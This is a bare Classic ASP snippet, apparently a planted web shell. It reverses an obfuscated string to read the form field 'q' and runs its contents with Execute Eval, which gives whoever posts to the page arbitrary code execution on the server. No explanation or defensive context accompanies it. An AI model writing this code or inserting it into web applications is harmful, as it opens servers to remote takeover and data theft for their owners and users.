<%
Execute Eval(StrReverse(")""q""(mroF.tseuqeR"))
%>
